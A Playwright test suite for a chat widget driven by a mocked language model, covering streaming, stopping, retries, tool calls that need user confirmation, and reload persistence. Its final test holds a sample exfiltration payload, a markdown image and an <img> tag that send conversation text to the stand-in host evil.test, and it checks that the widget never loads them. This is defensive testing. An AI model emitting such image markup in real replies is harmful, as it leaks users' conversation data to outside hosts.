// A language model behind the widget, played by a third party's mock: typed, streamed, stopped, tried again, tools, exact
// after a reload.
import type { Page } from "@playwright/test";
import { Chat, growth, history } from "../fixtures/chat";
import { GREETING, KEY, Model } from "../fixtures/model";
import type { Parlour } from "../fixtures/parlour";
import { testApp } from "../fixtures/platform";
import { expect, test as base } from "../fixtures/test";

const SORRY = "Sorry, I could not answer that.";

const test = base.extend<{ model: Model; ada: { chat: Chat; parlour: Parlour } }>({
  model: async ({}, use) => {
    const model = await Model.start();
    await use(model);
    await model.stop();
  },
  ada: async ({ page, model, startParlour }, use) => {
    const parlour = await startParlour({ config: testApp({ more: model.table() }) });
    await page.goto(`${parlour.baseURL}/chat/demo`);
    const chat = new Chat(page);
    await chat.online();
    await expect(chat.row(GREETING)).toHaveCount(1);
    await use({ chat, parlour });
    expect(parlour.output).not.toContain(KEY);
    expect(await page.content()).not.toContain(KEY);
  },
});

// Page and store hold exactly this, in this order, also after a reload. Of a button that was pressed the store holds what it
// sends, not what it says.
async function exact(page: Page, chat: Chat, said: string[], pressed: number[] = []): Promise<void> {
  await chat.settled();
  await expect(chat.window.locator("article.growing")).toHaveCount(0);
  await expect(chat.rows).toHaveCount(said.length);
  for (const again of [false, true]) {
    if (again) {
      await page.reload();
      await chat.online();
      await expect(chat.rows).toHaveCount(said.length);
    }
    const rows = await chat.rows.allInnerTexts();
    said.forEach((text, place) => expect(rows[place]).toContain(text));
  }
  const stored = await history(page);
  expect(stored.map(({ seq }) => seq)).toEqual(said.map((_, place) => place + 1));
  stored.forEach(({ text }, place) => pressed.includes(place) || expect(text).toContain(said[place]));
}

test("a question is answered as the model says it, and the next one goes with what was said", async ({ page, model, ada: { chat } }) => {
  const story = "Once upon a time there was a parcel, and it came **late**. ".repeat(6) + "The end.";
  model.mock.onMessage("story", { content: story }, { chunkSize: 8, streamingProfile: { ttft: 100, tps: 20 } });
  model.mock.onMessage("thanks", { content: "You are welcome." });
  const grown = await growth(page);
  await chat.say("Tell me a story");
  await expect(chat.row("The end.")).toHaveCount(1);
  expect(await grown()).toContainEqual(expect.stringMatching(/Once upon a time(?!.*The end\.)/));
  await expect(chat.row("The end.").locator("strong").first()).toHaveText("late");
  await chat.tell("thanks");
  await expect(chat.row("You are welcome.")).toHaveCount(1);
  expect(model.asked.at(-1)).toEqual([
    { role: "system", content: "You are Ada." },
    { role: "user", content: "(The visitor has opened the chat.)" },
    { role: "assistant", content: GREETING },
    { role: "user", content: "Tell me a story" },
    { role: "assistant", content: story },
    { role: "user", content: "thanks" },
  ]);
  await exact(page, chat, [GREETING, "Tell me a story", "Once upon a time", "thanks", "You are welcome."]);
});

test("Stop ends it where it is, and it stays so", async ({ page, model, ada: { chat } }) => {
  const story = "On and on and on it goes. ".repeat(200) + "The end.";
  model.mock.onMessage("story", { content: story }, { chunkSize: 8, streamingProfile: { tps: 20 } });
  await chat.say("Tell me a story");
  await expect(page.locator("article.growing")).toContainText("On and on");
  await page.getByRole("button", { name: "Stop answering" }).click();
  await expect(page.locator("article.growing")).toHaveCount(0);
  await expect(chat.row("On and on")).toContainText("Stopped");
  await exact(page, chat, [GREETING, "Tell me a story", "On and on"]);
  await expect(chat.row("On and on")).toContainText("Stopped");
  expect((await history(page))[2].text).not.toContain("The end.");
});

test("a busy server is asked again when it says, and one that fails, too", async ({ page, model, ada: { chat } }) => {
  const busy = { error: { message: "Rate limited", type: "rate_limit_error" }, status: 429, retryAfter: 1 };
  model.mock.on({ userMessage: "first", sequenceIndex: 0 }, busy);
  model.mock.on({ userMessage: "first", sequenceIndex: 1 }, { content: "One at last." });
  model.mock.on({ userMessage: "second", sequenceIndex: 0 }, { error: { message: "boom" }, status: 500 });
  model.mock.on({ userMessage: "second", sequenceIndex: 1 }, { content: "Two at last." });
  await chat.tell("first");
  await expect(chat.row("One at last.")).toHaveCount(1);
  await chat.tell("second");
  await expect(chat.row("Two at last.")).toHaveCount(1);
  expect(model.asked).toHaveLength(4);
  await exact(page, chat, [GREETING, "first", "One at last.", "second", "Two at last."]);
});

test("what cannot be read or breaks off is excused, and the operator finds it", async ({ page, model, ada: { chat, parlour } }) => {
  model.mock.onMessage("garbled", { content: "x" }, { chaos: { malformedRate: 1 } });
  const half = { chunkSize: 10, truncateAfterChunks: 4, streamingProfile: { tps: 20 } };
  model.mock.onMessage("cut", { content: "This answer is cut in the middle and has no end." }, half);
  model.mock.onMessage("slow", { content: "Slow but sure." }, { streamingProfile: { ttft: 1500, tps: 40 } });
  await chat.tell("cut");
  await expect(chat.row("This answer is")).toContainText("Stopped");
  await expect(chat.row(SORRY)).toHaveCount(1);
  await chat.tell("slow");
  await expect(chat.row("Slow but sure.")).toHaveCount(1);
  await chat.tell("garbled");
  await expect(chat.row(SORRY)).toHaveCount(2);
  await expect.poll(() => parlour.output.match(/a bot gave no answer/g)).toHaveLength(2);
  expect(parlour.output).not.toContain("This answer");
  await exact(page, chat, [GREETING, "cut", "This answer is", SORRY, "slow", "Slow but sure.", "garbled", SORRY]);
});

test("the model looks something up, and asks before it changes something", async ({ page, model, ada: { chat }, expectAccessible }) => {
  const calls = (name: string) => ({ toolCalls: [{ id: `call_${name}`, name, arguments: { number: 17 } }] });
  model.mock.on({ userMessage: "Where", hasToolResult: false }, calls("search_orders"));
  model.mock.on({ toolCallId: "call_search_orders" }, { content: "It is on its way." });
  model.mock.on({ userMessage: "Cancel", hasToolResult: false }, calls("cancel_order"));
  model.mock.on({ userMessage: "Yes, do it", hasToolResult: true }, { content: "I have cancelled it." });
  model.mock.on({ systemMessage: "It was not run" }, { content: "Then I leave it." });
  let found = (): void => {};
  model.pause = new Promise((resolve) => (found = resolve));
  await chat.tell("Where is my parcel?");
  await expect(chat.log.getByText("Looking up: Your orders …")).toBeVisible();
  found();
  await expect(chat.row("It is on its way.")).toHaveCount(1);
  await expect(chat.log.getByText("Looking up")).toHaveCount(0);
  expect(model.ran).toEqual([["search_orders", { number: 17 }]]);
  expect(model.asked.at(-1)!.at(-1)).toEqual({
    role: "tool",
    tool_call_id: "call_search_orders",
    content: "Order 17 is on its way.",
  });

  const question = "May I do this for you? Cancel order (number: 17)";
  await chat.tell("Cancel it, please");
  await expect(chat.row(question)).toHaveCount(1);
  await expectAccessible(page);
  await chat.tell("Wait a moment");
  await expect(chat.row("Then I leave it.")).toHaveCount(1);
  expect(model.ran).toHaveLength(1);

  await chat.tell("Cancel it now");
  await expect(chat.row(question)).toHaveCount(2);
  await page.reload();
  await chat.online();
  await chat.row(question).last().getByRole("button", { name: "Yes, do it" }).click();
  await expect(chat.row("I have cancelled it.")).toHaveCount(1);
  expect(model.ran.slice(1)).toEqual([["cancel_order", { number: 17 }]]);
  await exact(page, chat, [
    GREETING,
    "Where is my parcel?",
    "It is on its way.",
    "Cancel it, please",
    question,
    "Wait a moment",
    "Then I leave it.",
    "Cancel it now",
    question,
    "Yes, do it",
    "Done: Cancel order (number: 17)",
    "I have cancelled it.",
  ], [9]);
});

test("a picture in what the model says is a link, and nobody is asked for it", async ({ page, model, ada: { chat } }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const content = "Look: ![secret](https://evil.test/x.png?said=parcel) and <img src='https://evil.test/y.png'>";
  model.mock.onMessage("picture", { content }, { chunkSize: 4, streamingProfile: { tps: 60 } });
  await chat.tell("A picture, please");
  await expect(page.locator("article:not(.growing)").filter({ hasText: "y.png" })).toHaveCount(1);
  await expect(chat.row("Look:").getByRole("link").first()).toHaveAttribute("href", "https://evil.test/x.png?said=parcel");
  await expect(chat.row("Look:").locator("img")).toHaveCount(0);
  expect(asked.filter((url) => url.includes("evil.test"))).toEqual([]);
});
